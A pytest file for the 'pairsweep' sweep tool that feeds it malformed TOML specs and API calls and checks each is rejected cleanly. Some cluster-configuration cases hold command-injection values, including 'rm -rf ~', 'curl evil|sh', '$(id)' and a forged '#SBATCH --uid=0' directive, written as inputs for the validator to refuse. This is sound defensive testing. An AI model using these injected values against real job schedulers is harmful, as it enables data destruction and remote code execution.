"""The bad-input corpus (issue 14): every spec or API call below is rejected before any task
is submitted, with the field named first, exit code 2 from the CLI, no traceback, and
nothing written where the store would have gone."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from pairsweep.sweeps import ClusterSpec, SpecError, Sweep, run_sweep
from pairsweep.sweeps.cli import main

SMOOTH = 'kernel = "engine_kernels:SMOOTH"\nstore = "{store}"\n'
XY = '[axes]\nx = { linspace = [0.0, 1.0, 4] }\ny = { values = [0.0, 1.0] }\n'
SPINOR = 'kernel = "spinor_bec_couplings"\nstore = "{store}"\n[axes]\ng_F = { values = [0.5, 1.0] }\n'
SLURM = '[cluster]\nkind = "slurm"\ncores = 1\nmemory = "1GiB"\nwalltime = "01:00:00"\n'
ADAPTIVE = '[adaptive]\noutput = "f"\nbounds = { x = [-1.0, 1.0] }\nnpoints = 16\n'
PBS = '[cluster]\nkind = "pbs"\ncores = 1\nmemory = "1GiB"\nwalltime = "01:00:00"\n'

# (id, TOML text, the field the error must start with)
TOML_CASES = [
    ("chunks-int", SMOOTH + XY + "[execution]\nchunks = 4\n", "execution.chunks"),
    ("chunks-list", SMOOTH + XY + "[execution]\nchunks = [2, 2]\n", "execution.chunks"),
    ("chunks-bool", SMOOTH + XY + "[execution]\nchunks = { x = true }\n", "execution.chunks.x"),
    ("chunks-float", SMOOTH + XY + "[execution]\nchunks = { x = 1.5 }\n", "execution.chunks.x"),
    ("chunks-string", SMOOTH + XY + '[execution]\nchunks = { x = "2" }\n', "execution.chunks.x"),
    ("chunks-zero", SMOOTH + XY + "[execution]\nchunks = { x = 0 }\n", "execution.chunks.x"),
    ("chunks-not-axis", SMOOTH + XY + "[execution]\nchunks = { q = 2 }\n", "execution.chunks.q"),
    ("max-in-flight-true", SMOOTH + XY + "[execution]\nmax_in_flight = true\n", "execution.max_in_flight"),
    ("max-in-flight-zero", SMOOTH + XY + "[execution]\nmax_in_flight = 0\n", "execution.max_in_flight"),
    ("max-in-flight-str", SMOOTH + XY + '[execution]\nmax_in_flight = "4"\n', "execution.max_in_flight"),
    ("max-in-flight-float", SMOOTH + XY + "[execution]\nmax_in_flight = 2.5\n", "execution.max_in_flight"),
    ("execution-unknown", SMOOTH + XY + "[execution]\nthreads = 2\n", "execution.threads"),
    ("execution-not-table", SMOOTH + 'execution = 3\n' + XY, "execution"),
    ("cluster-string", SMOOTH + 'cluster = "local"\n' + XY, "cluster"),
    ("cluster-kind", SMOOTH + XY + '[cluster]\nkind = "cloud"\n', "cluster.kind"),
    ("cluster-n-workers-bool", SMOOTH + XY + "[cluster]\nn_workers = true\n", "cluster.n_workers"),
    ("bool-for-number", SPINOR + "[fixed]\nmass_ratio = true\n", "fixed.mass_ratio"),
    ("bool-axis", SMOOTH + "[axes]\nx = { values = [true, false] }\n", "axes.x"),
    ("bool-for-int-choice", 'kernel = "mixd_bilayer"\nstore = "{store}"\n[axes]\ndoping = { values = [0.1] }\n'
     "[fixed]\nd = true\n", "fixed.d"),
    ("string-for-number", SMOOTH + XY + '[fixed]\ndelay = "fast"\n', "fixed.delay"),
    ("table-for-number", SMOOTH + XY + "[fixed]\ndelay = { a = 1 }\n", "fixed.delay"),
    ("list-for-fixed", SMOOTH + XY + "[fixed]\ndelay = [0.1, 0.2]\n", "fixed.delay"),
    ("nan-fixed", SMOOTH + XY + "[fixed]\ndelay = nan\n", "fixed.delay"),
    ("out-of-range-fixed", SMOOTH + XY + "[fixed]\ndelay = 9.0\n", "fixed.delay"),
    ("unknown-fixed", SMOOTH + XY + "[fixed]\nz = 1.0\n", "fixed.z"),
    ("fixed-and-axis", SMOOTH + XY + "[fixed]\nx = 1.0\n", "fixed.x"),
    ("fixed-not-table", SMOOTH + "fixed = 3\n" + XY, "fixed"),
    ("linspace-1e11", SMOOTH + "[axes]\nx = { linspace = [0.0, 1.0, 100000000000] }\n", "axes.x.linspace"),
    ("logspace-1e11", SMOOTH + "[axes]\nx = { logspace = [0.1, 1.0, 100000000000] }\n", "axes.x.logspace"),
    ("linspace-num-bool", SMOOTH + "[axes]\nx = { linspace = [0.0, 1.0, true] }\n", "axes.x.linspace"),
    ("linspace-num-float", SMOOTH + "[axes]\nx = { linspace = [0.0, 1.0, 4.0] }\n", "axes.x.linspace"),
    ("linspace-short", SMOOTH + "[axes]\nx = { linspace = [0.0, 1.0] }\n", "axes.x.linspace"),
    ("logspace-negative", SMOOTH + "[axes]\nx = { logspace = [-1.0, 1.0, 3] }\n", "axes.x"),
    ("axis-2d", SMOOTH + "[axes]\nx = { values = [[0.0, 1.0], [2.0, 3.0]] }\n", "axes.x"),
    ("axis-scalar", SMOOTH + "[axes]\nx = { values = 0.5 }\n", "axes.x.values"),
    ("axis-not-table", SMOOTH + "[axes]\nx = 3\n", "axes.x"),
    ("axis-two-forms", SMOOTH + "[axes]\nx = { values = [1.0], linspace = [0.0, 1.0, 2] }\n", "axes.x"),
    ("axis-empty", SMOOTH + "[axes]\nx = { values = [] }\n", "axes.x"),
    ("axis-repeats", SMOOTH + "[axes]\nx = { values = [1.0, 1] }\n", "axes.x"),
    ("axis-strings", SMOOTH + '[axes]\nx = { values = ["a"] }\n', "axes.x"),
    ("axis-inf", SMOOTH + "[axes]\nx = { values = [inf] }\n", "axes.x"),
    ("axis-unknown-param", SMOOTH + "[axes]\nz = { values = [1.0] }\n", "axes.z"),
    ("axes-empty", SMOOTH + "[axes]\n", "axes"),
    ("axes-not-table", SMOOTH + "axes = 3\n", "axes"),
    ("kernel-not-string", 'kernel = 3\nstore = "{store}"\n' + XY, "kernel"),
    ("kernel-unknown", 'kernel = "no_such_kernel"\nstore = "{store}"\n' + XY, "kernel"),
    ("store-not-string", 'kernel = "engine_kernels:SMOOTH"\nstore = 5\n' + XY, "store"),
    ("unknown-top-key", SMOOTH + "colour = 1\n" + XY, "colour"),
    ("too-many-blocks", SMOOTH + "[axes]\nx = { linspace = [0.0, 1.0, 1000000] }\ny = { linspace = [0.0, 1.0, 1000000] }\n"
     "[execution]\nchunks = { x = 1, y = 1 }\n", "execution.chunks"),
    ("cross-axis", 'kernel = "spinor_bec_couplings"\nstore = "{store}"\n[axes]\ndelta_g = { values = [0.5] }\n'
     "[fixed]\ng = 0.1\n", "axes.delta_g"),
    ("cross-fixed", 'kernel = "spinor_bec_couplings"\nstore = "{store}"\n[axes]\ng = { values = [0.1, 0.2] }\n'
     "[fixed]\ndelta_g = 0.5\n", "fixed.delta_g"),
    ("cross-fixed-case", 'kernel = "multigap_lifshitz"\nstore = "{store}"\n[axes]\neta = { values = [1.0] }\n'
     '[fixed]\ncase = "A"\ndelta_E_meV = 100.0\n', "fixed.delta_E_meV"),
    ("slurm-partition-newline", SMOOTH + XY + SLURM + 'partition = "short\\n#SBATCH --uid=0"\n', "cluster.partition"),
    ("slurm-account-newline", SMOOTH + XY + SLURM + 'account = "grp\\nrm -rf ~"\n', "cluster.account"),
    ("slurm-job-name-newline", SMOOTH + XY + SLURM + 'job_name = "x\\ncurl evil|sh"\n', "cluster.job_name"),
    ("slurm-walltime-newline", 'kernel = "engine_kernels:SMOOTH"\nstore = "{store}"\n' + XY
     + '[cluster]\nkind = "slurm"\ncores = 1\nmemory = "1GiB"\nwalltime = "01:00:00\\n#SBATCH -x"\n',
     "cluster.walltime"),
    ("slurm-memory-newline", 'kernel = "engine_kernels:SMOOTH"\nstore = "{store}"\n' + XY
     + '[cluster]\nkind = "slurm"\ncores = 1\nmemory = "1GiB\\nid"\n', "cluster.memory"),
    ("slurm-carriage-return", SMOOTH + XY + SLURM + 'account = "grp\\rid"\n', "cluster.account"),
    ("slurm-python-shell", SMOOTH + XY + SLURM + 'python = "python3; rm -rf ~"\n', "cluster.python"),
    ("slurm-worker-args-shell", SMOOTH + XY + SLURM + 'worker_extra_args = ["--x $(id)"]\n',
     "cluster.worker_extra_args[0]"),
    ("slurm-directive-newline", SMOOTH + XY + SLURM + 'job_extra_directives = ["--qos=a\\nid"]\n',
     "cluster.job_extra_directives[0]"),
    ("slurm-interface-backtick", SMOOTH + XY + SLURM + 'interface = "ib0`id`"\n', "cluster.interface"),
    ("slurm-log-directory-newline", SMOOTH + XY + SLURM + 'log_directory = "logs\\nid"\n', "cluster.log_directory"),
    ("slurm-local-directory-shell", SMOOTH + XY + SLURM + 'local_directory = "/tmp;id"\n', "cluster.local_directory"),
    ("slurm-cores-zero", 'kernel = "engine_kernels:SMOOTH"\nstore = "{store}"\n' + XY
     + '[cluster]\nkind = "slurm"\ncores = 0\nmemory = "1GiB"\n', "cluster.cores"),
    ("slurm-cores-bool", 'kernel = "engine_kernels:SMOOTH"\nstore = "{store}"\n' + XY
     + '[cluster]\nkind = "slurm"\ncores = true\nmemory = "1GiB"\n', "cluster.cores"),
    ("slurm-partition-and-queue", SMOOTH + XY + SLURM + 'partition = "a"\nqueue = "b"\n', "cluster.partition"),
    ("pbs-queue-newline", SMOOTH + XY + PBS + 'queue = "q\\n#PBS -l x"\n', "cluster.queue"),
    ("pbs-resource-spec-newline", SMOOTH + XY + PBS + 'resource_spec = "select=1\\nid"\n', "cluster.resource_spec"),
    ("dashboard-no-port", SMOOTH + XY + '[cluster]\ndashboard_address = "0.0.0.0"\n', "cluster.dashboard_address"),
    ("dashboard-int", SMOOTH + XY + "[cluster]\ndashboard_address = 8787\n", "cluster.dashboard_address"),
    ("dashboard-newline", SMOOTH + XY + '[cluster]\ndashboard_address = "127.0.0.1:8787\\nx"\n',
     "cluster.dashboard_address"),
    # issue 17: every section's keys go through the typed fields (sweeps/fields.py)
    ("cluster-kind-int", SMOOTH + XY + "[cluster]\nkind = 3\n", "cluster.kind"),
    ("cluster-table-kind-only-slurm", SMOOTH + 'cluster = "slurm"\n' + XY, "cluster"),
    ("local-memory-limit-bool", SMOOTH + XY + "[cluster]\nmemory_limit = true\n", "cluster.memory_limit"),
    ("local-memory-limit-words", SMOOTH + XY + '[cluster]\nmemory_limit = "lots"\n', "cluster.memory_limit"),
    ("local-memory-limit-no-unit", SMOOTH + XY + "[cluster]\nmemory_limit = 512\n", "cluster.memory_limit"),
    ("local-walltime", SMOOTH + XY + '[cluster]\nwalltime = "01:00:00"\n', "cluster.walltime"),
    ("slurm-memory-int", SMOOTH + XY + '[cluster]\nkind = "slurm"\ncores = 1\nmemory = 4\n', "cluster.memory"),
    ("slurm-memory-empty", SMOOTH + XY + '[cluster]\nkind = "slurm"\ncores = 1\nmemory = ""\n', "cluster.memory"),
    ("slurm-job-mem-words", SMOOTH + XY + SLURM + 'job_mem = "lots"\n', "cluster.job_mem"),
    ("slurm-start-timeout-nan", SMOOTH + XY + SLURM + "start_timeout = nan\n", "cluster.start_timeout"),
    ("slurm-walltime-float", SMOOTH + XY + '[cluster]\nkind = "slurm"\ncores = 1\nmemory = "1GiB"\nwalltime = 1.5\n',
     "cluster.walltime"),
    ("slurm-death-timeout-float", SMOOTH + XY + SLURM + "death_timeout = 1.5\n", "cluster.death_timeout"),
    ("slurm-scheduler-options-int", SMOOTH + XY + SLURM + "scheduler_options = 4\n", "cluster.scheduler_options"),
    ("slurm-jobs-bool", SMOOTH + XY + SLURM + "jobs = true\n", "cluster.jobs"),
    ("kernel-missing", 'store = "{store}"\n' + XY, "kernel"),
    ("kernel-empty", 'kernel = ""\nstore = "{store}"\n' + XY, "kernel"),
    ("store-empty", 'kernel = "engine_kernels:SMOOTH"\nstore = ""\n' + XY, "store"),
    ("chunks-table-of-tables", SMOOTH + XY + "[execution]\nchunks = { x = { n = 2 } }\n", "execution.chunks.x"),
    # adaptive sweeps (issue 15): the [adaptive] table is checked like every other section
    ("adaptive-not-table", SMOOTH + "adaptive = 3\n", "adaptive"),
    ("adaptive-unknown-key", SMOOTH + ADAPTIVE + "colour = 1\n", "adaptive.colour"),
    ("adaptive-no-output", SMOOTH + '[adaptive]\nbounds = { x = [-1.0, 1.0] }\nnpoints = 16\n', "adaptive.output"),
    ("adaptive-no-bounds", SMOOTH + '[adaptive]\noutput = "f"\nnpoints = 16\n', "adaptive.bounds"),
    ("adaptive-output-unknown", SMOOTH + ADAPTIVE.replace('"f"', '"g"'), "adaptive.output"),
    ("adaptive-output-needs-index", SMOOTH + ADAPTIVE.replace('"f"', '"moments"'), "adaptive.index.k"),
    ("adaptive-index-not-a-value", SMOOTH + ADAPTIVE.replace('"f"', '"moments"') + "index = { k = 7 }\n",
     "adaptive.index.k"),
    ("adaptive-index-unknown-dim", SMOOTH + ADAPTIVE + "index = { ell = 0 }\n", "adaptive.index.ell"),
    ("adaptive-loss-unknown", SMOOTH + ADAPTIVE + 'loss = "wiggles"\n', "adaptive.loss"),
    ("adaptive-level-missing", SMOOTH + ADAPTIVE + 'loss = "level"\n', "adaptive.level"),
    ("adaptive-level-not-number", SMOOTH + ADAPTIVE + 'loss = "level"\nlevel = "zero"\n', "adaptive.level"),
    ("adaptive-level-without-loss", SMOOTH + ADAPTIVE + "level = 0.0\n", "adaptive.level"),
    ("adaptive-bounds-out-of-range", SMOOTH + ADAPTIVE.replace("[-1.0, 1.0]", "[-20.0, 1.0]"), "adaptive.bounds.x"),
    ("adaptive-bounds-reversed", SMOOTH + ADAPTIVE.replace("[-1.0, 1.0]", "[1.0, -1.0]"), "adaptive.bounds.x"),
    ("adaptive-bounds-three", SMOOTH + ADAPTIVE.replace("[-1.0, 1.0]", "[-1.0, 0.0, 1.0]"), "adaptive.bounds.x"),
    ("adaptive-bounds-bool", SMOOTH + ADAPTIVE.replace("[-1.0, 1.0]", "[true, 1.0]"), "adaptive.bounds.x"),
    ("adaptive-bounds-unknown-param", SMOOTH + ADAPTIVE.replace("x =", "z ="), "adaptive.bounds.z"),
    ("adaptive-bounds-also-fixed", SMOOTH + ADAPTIVE + "[fixed]\nx = 0.5\n", "adaptive.bounds.x"),
    ("adaptive-bounds-also-axis", SMOOTH + ADAPTIVE + "[axes]\nx = { values = [0.5] }\n", "adaptive.bounds.x"),
    ("adaptive-log-nonpositive", SMOOTH + ADAPTIVE + 'log = ["x"]\n', "adaptive.log"),
    ("adaptive-log-not-sampled", SMOOTH + ADAPTIVE + 'log = ["y"]\n', "adaptive.log"),
    ("adaptive-npoints-zero", SMOOTH + ADAPTIVE.replace("npoints = 16", "npoints = 0"), "adaptive.npoints"),
    ("adaptive-npoints-bool", SMOOTH + ADAPTIVE.replace("npoints = 16", "npoints = true"), "adaptive.npoints"),
    ("adaptive-npoints-too-few", SMOOTH + ADAPTIVE.replace("npoints = 16", "npoints = 1"), "adaptive.npoints"),
    ("adaptive-npoints-1e12", SMOOTH + ADAPTIVE.replace("npoints = 16", "npoints = 1000000000000"), "adaptive.npoints"),
    ("adaptive-block-points-zero", SMOOTH + ADAPTIVE + "block_points = 0\n", "adaptive.block_points"),
    ("adaptive-block-points-over-budget", SMOOTH + ADAPTIVE + "block_points = 32\n", "adaptive.block_points"),
    ("adaptive-loss-goal-negative", SMOOTH + ADAPTIVE + "loss_goal = -1.0\n", "adaptive.loss_goal"),
    ("adaptive-maximum-level", SMOOTH + '[adaptive]\noutput = "f"\nloss = "maximum"\nlevel = 0.5\nnpoints = 64\n'
     "bounds = { x = [-1.0, 1.0], y = [-1.0, 1.0] }\n", "adaptive.level"),
    ("adaptive-chunks", SMOOTH + ADAPTIVE + "[execution]\nchunks = { x = 4 }\n", "execution.chunks"),
]


def _files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")}


# too-many-blocks canonicalises two 10⁶-value axes: seconds on 2 cores, so it is slow.
@pytest.mark.parametrize(("text", "field"), [
    pytest.param(*c[1:], id=c[0], marks=[pytest.mark.slow] if c[0] == "too-many-blocks" else []) for c in TOML_CASES])
def test_bad_toml_is_rejected_by_the_cli(tmp_path, capsys, text, field):
    store = tmp_path / "out" / "r.zarr"
    spec = tmp_path / "spec.toml"
    spec.write_text(text.replace("{store}", str(store)))
    before = _files(tmp_path)
    assert main(["run", str(spec), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"pairsweep: error: {field}:"), err
    assert "Traceback" not in err
    assert _files(tmp_path) == before  # nothing written, not even the store's parent


def _store_is_a_file_parent(tmp_path: Path) -> Path:
    (tmp_path / "plain").write_text("not a directory")
    return tmp_path / "plain" / "r.zarr"


def _store_exists_as_file(tmp_path: Path) -> Path:
    (tmp_path / "r.zarr").write_text("a file")
    return tmp_path / "r.zarr"


def _store_unwritable(tmp_path: Path) -> Path:
    if os.geteuid() == 0:
        # root passes every permission check; sysfs refuses a mkdir even to root
        return Path("/sys/pairsweep-test/r.zarr")
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    return locked / "r.zarr"


@pytest.mark.parametrize("make_store", [_store_is_a_file_parent, _store_exists_as_file, _store_unwritable])
def test_store_path_that_cannot_be_written_is_rejected(tmp_path, capsys, make_store):
    store = make_store(tmp_path)
    spec = tmp_path / "spec.toml"
    spec.write_text(SMOOTH.replace("{store}", str(store)) + XY)
    before = _files(tmp_path)
    try:
        assert main(["run", str(spec)]) == 2
        assert main(["run", str(spec), "--dry-run"]) == 2
    finally:
        if (tmp_path / "locked").exists():
            (tmp_path / "locked").chmod(0o700)
    err = capsys.readouterr().err
    assert err.startswith("pairsweep: error: store: ") and "Traceback" not in err, err
    assert _files(tmp_path) == before
    assert not (store.exists() and store.is_dir())


def _sweep(**kw):
    base = dict(kernel="engine_kernels:SMOOTH", store="r.zarr", axes={"x": [0.0, 1.0], "y": [0.0]})
    return {**base, **kw}


_SLURM_OPTS = {"cores": 1, "memory": "1GiB", "walltime": "01:00:00"}

# (id, Sweep keyword arguments, the field the error must start with)
API_CASES = [
    ("fixed-list", _sweep(fixed={"delay": [0.1, 0.2]}), "fixed.delay"),
    ("fixed-array", _sweep(fixed={"delay": np.array([0.1])}), "fixed.delay"),
    ("fixed-bool", _sweep(fixed={"delay": True}), "fixed.delay"),
    ("fixed-numpy-bool", _sweep(fixed={"delay": np.bool_(True)}), "fixed.delay"),
    ("fixed-none", _sweep(fixed={"delay": None}), "fixed.delay"),
    ("fixed-not-mapping", _sweep(fixed=[("delay", 0.1)]), "fixed"),
    ("fixed-none-table", _sweep(fixed=None), "fixed"),
    ("cluster-none", _sweep(cluster=None), "cluster"),
    ("axis-2d-array", _sweep(axes={"x": np.zeros((2, 2))}), "axes.x"),
    ("axis-scalar", _sweep(axes={"x": 0.5}), "axes.x"),
    ("axis-numpy-scalar", _sweep(axes={"x": np.float64(0.5)}), "axes.x"),
    ("axis-0d-array", _sweep(axes={"x": np.array(0.5)}), "axes.x"),
    ("axis-string", _sweep(axes={"x": "abc"}), "axes.x"),
    ("axis-bools", _sweep(axes={"x": [True, False]}), "axes.x"),
    ("axis-bool-array", _sweep(axes={"x": np.array([True, False])}), "axes.x"),
    ("axis-nested", _sweep(axes={"x": [[0.0, 1.0]]}), "axes.x"),
    ("axis-nan", _sweep(axes={"x": np.array([0.0, np.nan])}), "axes.x"),
    ("axis-name-not-str", _sweep(axes={1: [0.0]}), "axes"),
    ("axes-int", _sweep(axes=3), "axes"),
    ("axes-tuples", _sweep(axes=[("x", [1.0, 2.0])]), "axes"),
    ("kernel-none", _sweep(kernel=None), "kernel"),
    ("kernel-int", _sweep(kernel=3), "kernel"),
    ("store-none", _sweep(store=None), "store"),
    ("store-empty", _sweep(store=""), "store"),
    ("chunks-int", _sweep(chunks=4), "execution.chunks"),
    ("chunks-numpy-float", _sweep(chunks={"x": np.float32(2)}), "execution.chunks.x"),
    ("chunks-bool", _sweep(chunks={"x": True}), "execution.chunks.x"),
    ("max-in-flight-bool", _sweep(max_in_flight=True), "execution.max_in_flight"),
    ("max-in-flight-float", _sweep(max_in_flight=2.5), "execution.max_in_flight"),
    ("cluster-string", _sweep(cluster="local"), "cluster"),
    ("cluster-kind-int", _sweep(cluster=ClusterSpec(kind=3)), "cluster.kind"),
    ("cluster-partition-newline",
     _sweep(cluster=ClusterSpec("slurm", {**_SLURM_OPTS, "partition": "a\n#SBATCH --x"})), "cluster.partition"),
    ("cluster-options-not-mapping", _sweep(cluster=ClusterSpec("local", [("n_workers", 2)])), "cluster"),
    ("cluster-option-names-mixed", _sweep(cluster=ClusterSpec("local", {1: 2, "zz": 3})), "cluster"),
    ("cluster-memory-limit-words", _sweep(cluster=ClusterSpec("local", {"memory_limit": "lots"})),
     "cluster.memory_limit"),
    ("cluster-slurm-memory-int", _sweep(cluster=ClusterSpec("slurm", {"cores": 1, "memory": 4})), "cluster.memory"),
    ("cluster-n-workers-numpy-float", _sweep(cluster=ClusterSpec("local", {"n_workers": np.float64(2)})),
     "cluster.n_workers"),
    ("max-in-flight-numpy-bool", _sweep(max_in_flight=np.bool_(True)), "execution.max_in_flight"),
    ("chunks-key-not-str", _sweep(chunks={0: 2}), "execution.chunks"),
    ("store-int", _sweep(store=5), "store"),
    ("mass-ratio-true", dict(kernel="spinor_bec_couplings", store="r.zarr", axes={"g_F": [1.0]},
                             fixed={"mass_ratio": True}), "fixed.mass_ratio"),
]


@pytest.mark.parametrize("kwargs,field", [c[1:] for c in API_CASES], ids=[c[0] for c in API_CASES])
def test_bad_api_call_is_rejected_before_anything(tmp_path, monkeypatch, kwargs, field):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SpecError) as info:
        run_sweep(Sweep(**kwargs), progress=False)
    assert str(info.value).startswith(f"{field}:"), str(info.value)
    assert _files(tmp_path) == set()


def test_corpus_is_large_enough():
    assert len(TOML_CASES) + len(API_CASES) + 3 >= 60


# Each case starts a Python process (seconds on 2 cores): the quick subset keeps the first.
@pytest.mark.parametrize(("text", "field"), [
    pytest.param(TOML_CASES[0][1], "execution.chunks", id="chunks"),
    pytest.param(TOML_CASES[13][1], "cluster", id="cluster", marks=pytest.mark.slow),
    pytest.param(SPINOR + "[fixed]\nmass_ratio = true\n", "fixed.mass_ratio", id="bool", marks=pytest.mark.slow),
])
def test_cli_in_a_subprocess_exits_2_without_traceback(tmp_path, subprocess_env, text, field):
    """Corpus entries through the real console entry point (exit status, stderr)."""
    spec = tmp_path / "spec.toml"
    spec.write_text(text.replace("{store}", str(tmp_path / "r.zarr")))
    proc = subprocess.run([sys.executable, "-m", "pairsweep.sweeps.cli", "run", str(spec)],
                          capture_output=True, text=True, env=subprocess_env, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith(f"pairsweep: error: {field}:") and "Traceback" not in proc.stderr
    assert _files(tmp_path) == {"spec.toml"}
